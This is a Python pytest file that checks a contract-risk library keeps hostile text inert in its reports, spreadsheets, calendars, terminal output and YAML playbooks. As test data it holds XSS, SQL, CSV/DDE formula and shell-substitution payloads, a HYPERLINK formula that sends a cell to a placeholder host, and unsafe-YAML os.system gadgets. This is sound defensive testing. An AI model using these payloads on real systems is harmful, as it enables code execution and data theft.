"""Text from a contract, or from the name of its file, is data wherever it goes: a table of attacks × outputs."""

from __future__ import annotations

import csv
import html.parser
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from drawn import CLAUSES, agreement
from rich.console import Console

from risklib import BadData, Portfolio, load_playbook, write_report
from risklib.commands.terminal import clause_views, text_of
from risklib.compare.exports import Sheet, write
from risklib.due.ics import ics
from risklib.due.key_dates import KeyDate
from risklib.pdf import read
from risklib.portfolio import _REAL, _WHOLE, COLUMNS
from risklib.records import file_name
from risklib.schedule.xlsx import Workbook

ATTACKS = {
    "script": "<script>document.title='owned'</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "style": "</style></script><svg onload=alert(1)>",
    "link": "<a href='javascript:alert(1)'>pay</a>",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"pay")',
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "quoted formula": "'=1+1",
    "markup": "[bold red]paid[/] [link=http://example.invalid]x[/link]",
    "format": "%s%n{0}{x}",
    "sql": "'; DROP TABLE blobs; --",
}
# a reader never gives these (see below), but tables may come from elsewhere
DRIVING = {
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "c1": "\x9b31m",
    "bidi": "evil\u202efdp.exe",
    "isolate": "\u2067x",
    "null": "a\x00b",
}
PLAIN = "shall be paid"


def portfolio(text: str) -> Portfolio:
    """One contract, every text of which is ``text``."""
    here = {"contract_id": "ab" * 32, "clause_id": "c0001", "page": 1, "start": 0, "end": 9, "bbox": [[1, 1, 1, 9, 9]]}
    known: dict[str, Any] = (
        dict.fromkeys(_WHOLE, 1)
        | dict.fromkeys(_REAL, 1.0)
        | {
            "term_bbox": [[1, 1, 1, 9, 9]],
            "level": 1,
            "pages": 1,
            "words": 9,
            "ocr_pages": 0,
            "status": "ok",
            "clarity": 0.5,
            "clear_share": 0.5,
            "confidence": 0.5,
            "parent_id": None,
        }
    )
    known |= {"vague": [text], "marks": {"what": text}, "values": {"covers": [text], "percent": 1.5}, "copies": [text]}
    known |= {"party": "customer", "category": "other", "responsibility": "other.other", "provision": "late_payment"}
    known |= {"modality": "obligation", "consequence": None, "component": "late_payment", "currency": "EUR"}
    known |= dict.fromkeys(("low", "likely", "high", "expected", "p95"), 1.0) | here
    rows = {
        table: [{c: known.get(c, text) for c in COLUMNS[table]}]
        for table in ("contracts", "clauses", "responsibilities", "provisions", "exposures", "operands")
    }
    rows["exposures"][0] |= {"status": "unscored"}
    return Portfolio.of_rows(
        rows, {"notes": [text], "outcome": "ok", "as_of": "2026-11-01", "illustrative": True, "versions": {}}
    )


class Structure(html.parser.HTMLParser):
    """What a browser would act on: tags with the names of their attributes, code, and addresses."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[tuple[str, tuple[str, ...]]] = set()
        self.code: set[str] = set()
        self.addresses: set[str] = set()
        self.inside = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add((tag, tuple(sorted(k for k, _ in attrs))))
        self.addresses |= {
            str(v).split(":")[0] for k, v in attrs if k in ("href", "src", "action") and not str(v).startswith("#")
        }
        self.code |= {f"{k}={v}" for k, v in attrs if k.startswith("on")}
        self.inside = tag if tag in ("script", "style") else ""

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside:
            self.code.add(data)


def as_report(p: Portfolio, folder: Path) -> str:
    return write_report(p, folder / "report.html").read_text(encoding="utf-8")


def as_notebook(p: Portfolio, folder: Path) -> str:
    return p._repr_html_()


@pytest.mark.parametrize("attack", {**ATTACKS, **DRIVING}.values(), ids={**ATTACKS, **DRIVING})
@pytest.mark.parametrize("output", [as_report, as_notebook])
def test_html_of_an_attack_is_built_as_that_of_plain_words(output: Any, attack: str, tmp_path: Path) -> None:
    plain, attacked = Structure(output(portfolio(PLAIN), tmp_path)), Structure(output(portfolio(attack), tmp_path))
    assert attacked.tags - plain.tags == set()
    assert attacked.code == plain.code
    assert attacked.addresses == plain.addresses <= {"data"}


@pytest.mark.parametrize("attack", DRIVING.values(), ids=DRIVING)
def test_the_report_shows_what_would_turn_or_hide_text(attack: str, tmp_path: Path) -> None:
    text = as_report(portfolio(attack), tmp_path)
    assert not set(text) & set("\x00\x07\x1b\x9b\u202e\u2067")
    assert "⟨U+" in text


def test_the_report_forbids_what_it_does_not_bring(tmp_path: Path) -> None:
    text = as_report(portfolio(ATTACKS["script"]), tmp_path)
    assert "Content-Security-Policy" in text
    assert "default-src &#39;none&#39;" in text
    assert "unsafe" not in text


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_cells_of_csv_run_no_formula_and_come_back(attack: str, tmp_path: Path) -> None:
    p = portfolio(attack)
    p.save(tmp_path, format="csv")
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert cell[:1] not in "=+-@\t\r" or cell == "" or is_number(cell), f"{path.name}: {cell}"
    assert Portfolio.load(tmp_path).clauses["text"].iloc[0] == attack


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


EVERY = [*ATTACKS.values(), *DRIVING.values()]


def as_comparison(path: Path) -> Path:
    frame = pd.DataFrame({"file": EVERY, "text": EVERY, "page": [1] * len(EVERY)})
    return write([Sheet("Terms", frame)], path, title=EVERY[0], lines=EVERY)


def as_scheduled(path: Path) -> Path:
    with Workbook(path) as book:
        book.sheet("terms", EVERY[:3], ([text, [text], {text: text}] for text in EVERY))
    return path


@pytest.mark.parametrize("output", [as_comparison, as_scheduled])
def test_cells_of_a_workbook_are_text(output: Any, tmp_path: Path) -> None:
    """Whole cells in a reader's eyes, and no formula, link or other part in the file itself."""
    path = output(tmp_path / "x.xlsx")
    cells = [c for sheet in openpyxl.load_workbook(path) for row in sheet for c in row if c.value is not None]
    assert {c.data_type for c in cells} <= {"s", "n", "inlineStr"}
    assert not [c for c in cells if c.hyperlink and c.hyperlink.target]  # to the sheets of the workbook itself at most
    said = {" ".join(str(c.value).split()) for c in cells}
    assert {" ".join(text.split()) for text in ATTACKS.values()} <= said
    assert not {x for text in said for x in text} & set("\x00\x07\x1b\x9b\u202e\u2067")
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name)
            assert b"TargetMode" not in parts.read(name)
            assert not {"externalLinks", "vbaProject.bin", "embeddings"} & set(Path(name).parts)


def test_a_calendar_keeps_its_lines(tmp_path: Path) -> None:
    inside = [
        *EVERY,
        "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
        "x\nATTACH:http://example.invalid",
        "a;b,c\\n",
    ]

    def calendar(text: str) -> list[str]:
        day = date(2027, 1, 1)
        made = ics(
            [KeyDate("renewal", text, day, day, text, None, "ab" * 32, text, text, text, "c1", text, 1, text)], day
        )
        return made.replace("\r\n ", "").split("\r\n")

    plain = [line.split(":")[0] for line in calendar(PLAIN)]
    for text in inside:
        lines = calendar(text)
        assert [line.split(":")[0] for line in lines] == plain, text
        assert all(c.isprintable() or c in "\t\u2028" for line in lines for c in line), text


def test_what_is_saved_is_for_its_owner_alone(tmp_path: Path) -> None:
    """Whatever the umask: the command line sets its own, Python users have the system's."""
    before = os.umask(0o022)
    try:
        for form in ("parquet", "csv"):
            portfolio(PLAIN).save(tmp_path / form, format=form)
            assert (tmp_path / form).stat().st_mode & 0o777 == 0o700
            assert {p.stat().st_mode & 0o777 for p in (tmp_path / form).iterdir()} == {0o600}
    finally:
        os.umask(before)


@pytest.mark.parametrize("attack", {**ATTACKS, **DRIVING}.values(), ids={**ATTACKS, **DRIVING})
def test_a_terminal_gets_nothing_but_the_words(attack: str) -> None:
    p, out = portfolio(attack), io.StringIO()
    id = p.contracts["contract_id"].iloc[0]
    Console(file=out, force_terminal=False, width=200).print(text_of(p, id, clause_views(p, id, None)))
    shown = out.getvalue()
    assert all(c.isprintable() or c == "\n" for c in shown)
    if attack in ATTACKS.values():
        assert " ".join(attack.split()) in " ".join(shown.split())


# ---------------------------------------------------------------- where it comes from

NAMES = {
    "newline": "a\nb.pdf",
    "escape": "\x1b[31mred\x07.pdf",
    "right to left": "evil\u202efdp.exe.pdf",
    "formula": "=cmd|' C calc'!A0.pdf",
    "tag": "<img src=x onerror=alert(1)>.pdf",
    "path": "..\\..\\windows.pdf",
    "option": "-rf.pdf",
    "shell": "$(touch owned) `touch owned`.pdf",
    "template": "{{7*7}}%s.pdf",
    "no text": os.fsdecode(b"\xff\xfe.pdf"),
}


@pytest.fixture(scope="module")
def named(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("names")
    for k, name in enumerate(NAMES.values()):
        path = agreement(folder / "plain.pdf", CLAUSES[: 3 + k], title=f"Terms {k}")
        try:
            path.rename(folder / name)
        except OSError:
            pytest.skip(f"this file system takes no name like {name!r}")
    return folder


def command(*words: str | Path, folder: Path) -> tuple[int, str, str]:
    line = [sys.executable, "-m", "risklib.cli", *map(str, words)]
    done = subprocess.run(line, check=False, capture_output=True, cwd=folder, timeout=300)
    return done.returncode, done.stdout.decode(), done.stderr.decode()


@pytest.mark.slow
def test_names_of_files_are_data_on_the_whole_way(named: Path, tmp_path: Path) -> None:
    store, out = tmp_path / "s.db", tmp_path / "tables"
    said = [
        command("analyze", named, "--out", out, "--store", store, "--trials", "100", "--format", "csv", folder=tmp_path)
    ]
    said.append(command("report", out, "--out", tmp_path / "r.html", "--pdfs", named, folder=tmp_path))
    said.append(command("store", "search", store, "invoice", folder=tmp_path))
    said.append(command("show", "evil", "--tables", out, "--json", folder=tmp_path))
    for code, stdout, stderr in said:
        assert code == 0, stderr
        assert all(c.isprintable() or c == "\n" for c in stdout + stderr)
        assert "Traceback" not in stderr
    json.loads(said[-1][1])
    contracts = pd.read_csv(out / "contracts.csv")
    shown = {file_name(n) for n in NAMES.values()}
    assert set(Portfolio.load(out).contracts["file"]) == shown
    assert set(contracts["status"]) == {"ok"}
    assert "no pictures" not in said[1][2]  # each PDF was found again by its name
    made = {p.name.split("-")[0] for p in tmp_path.iterdir()}
    assert made == {"s.db", "tables", "r.html"}  # nothing was written elsewhere, nothing ran
    assert not {
        t
        for t in Structure((tmp_path / "r.html").read_text(encoding="utf-8")).tags
        if any(a.startswith("on") for a in t[1])
    }


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
def test_a_name_in_a_table_drives_no_terminal_and_names_no_folder(name: str) -> None:
    shown = file_name(f"/x/{name}")
    assert all(c.isprintable() for c in shown)
    assert "/" not in shown
    shown.encode("utf-8")


@pytest.mark.parametrize("title", ["\x1b[2Jowned\x07", "a\nb", "evil\u202efdp", "null\x00"])
def test_a_title_from_the_file_is_clean(title: str, tmp_path: Path) -> None:
    document = read(
        agreement(
            tmp_path / "a.pdf", CLAUSES[:3], title=title.replace("\x00", "").replace("\x1b", "").replace("\x07", "")
        )
    )
    assert all(c.isprintable() for c in document.metadata_title)


# ---------------------------------------------------------------- playbooks and CSVs


@pytest.mark.parametrize(
    "yaml",
    [
        "!!python/object/apply:os.system ['touch owned']",
        "- !!python/name:os.system",
        "a: &a [*a]",
        "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c]",
        "{" * 2000,
        "\x00\x01",
    ],
    ids=["apply", "name", "recursive", "billion laughs", "deep", "binary"],
)
def test_a_playbook_runs_nothing(yaml: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(load_playbook().folder, tmp_path / "book")
    (tmp_path / "book" / "vague.yaml").write_text(yaml, encoding="utf-8")
    with pytest.raises(BadData, match=r"vague\.yaml"):
        load_playbook(tmp_path / "book")
    assert {p.name for p in tmp_path.iterdir()} == {"book"}


@pytest.mark.parametrize("name", ["roles.yaml", "values.yaml", "consequences.yaml", "baseline.csv", "ids.txt"])
def test_a_playbook_that_is_no_utf_8_is_told(name: str, tmp_path: Path) -> None:
    """Found by `make fuzz`."""
    shutil.copytree(load_playbook().folder, tmp_path / "book")
    with (tmp_path / "book" / name).open("ab") as f:
        f.write(b"\n# 50 \xa3\n")
    with pytest.raises(BadData, match=rf"{name}:\d+: byte 0xa3 is no UTF-8"):
        load_playbook(tmp_path / "book")


# ---------------------------------------------------------------- logs


@pytest.mark.slow
def test_nothing_of_a_contract_is_logged(tmp_path: Path) -> None:
    """Not on standard output or error, not where files are damaged: names and counts only."""
    agreement(tmp_path / "a.pdf")
    whole = (tmp_path / "a.pdf").read_bytes()
    for k in range(4):
        bad = bytearray(whole)
        bad[len(bad) // (k + 2) : len(bad) // (k + 2) + 40] = b"<< /Alder Freight (Customer shall pay) >"
        (tmp_path / f"bad{k}.pdf").write_bytes(bad)
    code, stdout, stderr = command("analyze", tmp_path, "--out", tmp_path / "o", "--trials", "100", folder=tmp_path)
    assert code in (0, 3)
    for words in ("Alder", "shall pay", "Quill", "invoice"):
        assert words not in stdout + stderr
